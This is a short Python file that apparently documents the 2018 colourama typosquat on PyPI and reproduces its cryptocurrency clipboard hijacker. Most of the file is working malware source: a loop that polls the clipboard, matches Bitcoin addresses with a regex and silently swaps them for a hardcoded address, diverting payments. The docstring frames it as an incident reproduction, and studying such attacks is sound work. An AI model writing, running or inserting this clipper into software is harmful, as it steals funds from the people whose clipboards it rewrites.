"""Incident: cryptocurrency clipper packages (PyPI colourama 2018, and many since).

colourama, a typosquat of colorama, installed a script that watched the clipboard and
replaced any Bitcoin address the user copied with the attacker's, diverting payments.
Reference: https://medium.com/@bertusk/cryptocurrency-clipboard-hijacker-discovered-in-pypi-repository-b66b8a534a8
Reproduction (own code; the replacement address is a made-up but well-formed P2PKH one).
"""

import re
import time

import pyperclip

_BTC = re.compile(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$")
_MINE = "1BoatSLRHtKNngkdXEeobR76b53LETtpyT"


def watch() -> None:
    while True:
        text = pyperclip.paste().strip()
        if _BTC.match(text) and text != _MINE:
            pyperclip.copy(_MINE)
        time.sleep(0.5)


if __name__ == "__main__":
    watch()
